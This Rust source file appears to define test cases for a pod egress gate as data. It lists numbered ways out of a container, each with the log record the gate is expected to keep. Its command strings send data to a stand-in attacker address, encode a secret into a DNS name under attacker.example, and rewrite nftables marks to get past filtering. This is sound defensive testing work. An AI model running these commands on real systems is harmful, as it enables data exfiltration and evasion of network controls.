//! The ways out, as data.

use std::net::IpAddr;

use crate::{ROOT, USER, raw};

/// How an attempt is made.
pub(crate) enum By {
    /// A command line, as these users.
    Line(&'static [u32], &'static str),
    /// A packet of one's own making: from the pod's address to the attacker.
    Packet(fn(IpAddr) -> Vec<u8>),
}

pub(crate) struct Attempt {
    pub(crate) what: &'static str,
    pub(crate) by: By,
    /// How the record has it: protocol and destination; for DNS the name asked.
    pub(crate) recorded: (&'static str, &'static str),
}

const fn line(
    what: &'static str,
    users: &'static [u32],
    line: &'static str,
    recorded: (&'static str, &'static str),
) -> Attempt {
    let by = By::Line(users, line);
    Attempt { what, by, recorded }
}

const fn packet(
    what: &'static str,
    make: fn(IpAddr) -> Vec<u8>,
    recorded: (&'static str, &'static str),
) -> Attempt {
    let by = By::Packet(make);
    Attempt { what, by, recorded }
}

const BOTH: &[u32] = &[USER, ROOT];

/// By number as in the corpus of evasions. Each has a port of its own, by which it is known again.
pub(crate) const ATTEMPTS: &[Attempt] = &[
    line(
        "1 TCP by address",
        BOTH,
        "echo x > /dev/tcp/203.0.113.66/7001",
        ("tcp", "203.0.113.66:7001"),
    ),
    line(
        "4 QUIC",
        BOTH,
        "echo x > /dev/udp/203.0.113.66/443",
        ("udp", "203.0.113.66:443"),
    ),
    line(
        "5 UDP",
        BOTH,
        "echo x > /dev/udp/203.0.113.66/7002",
        ("udp", "203.0.113.66:7002"),
    ),
    packet("7 ICMP payload", raw::echo, ("icmp", "203.0.113.66:0")),
    packet(
        "10 fragments",
        |from| raw::fragmented(from, 7003),
        ("udp", "203.0.113.66:7003"),
    ),
    line(
        "17 the proxy's user and the gate's",
        &[1337, 1338],
        "echo x > /dev/tcp/203.0.113.66/7004",
        ("tcp", "203.0.113.66:7004"),
    ),
    line(
        "19 every mark there is",
        &[ROOT],
        "nft 'add table inet evil; add chain inet evil out { type route hook output priority 0; }; \
         add rule inet evil out meta mark set 0xffffffff ct mark set 0xffffffff'; \
         echo x > /dev/udp/203.0.113.66/7005; nft delete table inet evil",
        ("udp", "203.0.113.66:7005"),
    ),
    line(
        "29 the attacker's resolver",
        BOTH,
        "exec 3<>/dev/udp/203.0.113.66/53; \
         printf '\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4leak\\10attacker\\7example\\0\\0\\1\\0\\1' >&3; \
         timeout 0.3 head -c1 <&3",
        ("dns", "leak.attacker.example"),
    ),
    line(
        "31 DNS over TLS",
        BOTH,
        "echo x > /dev/tcp/203.0.113.66/853",
        ("tcp", "203.0.113.66:853"),
    ),
    line(
        "32 DNS over HTTPS, 46 an allowed name and a foreign address",
        BOTH,
        "curl -sk --max-time 2 --resolve api.payments.example:443:203.0.113.66 \
         https://api.payments.example/dns-query",
        ("tls", "203.0.113.66:443"),
    ),
    line(
        "33 data in a name",
        BOTH,
        "getent ahostsv4 c2VjcmV0.attacker.example",
        ("dns", "c2vjcmv0.attacker.example"),
    ),
    line(
        "76 a Service whose endpoint is outside",
        BOTH,
        "echo x > /dev/tcp/10.96.66.66/80",
        ("tcp", "203.0.113.66:8066"),
    ),
];

/// Ways that lead nowhere even from a pod without a policy, or to another than the attacker: no
/// less on record.
pub(crate) const OTHERS: &[(&str, (&str, &str))] = &[
    ("12 another pod's address", ("udp", "203.0.113.66:7012")),
    ("12 another MAC address", ("udp", "203.0.113.66:7013")),
    ("13 a loose source route", ("udp", "10.0.0.10:7014")),
    (
        "15 a segment of no connection",
        ("tcp", "203.0.113.66:7015"),
    ),
    ("8 a tunnel", ("other", "203.0.113.66:0")),
    ("27 instance metadata", ("tcp", "169.254.169.254:80")),
    ("74 the gate's own door", ("tcp", "10.0.")),
];
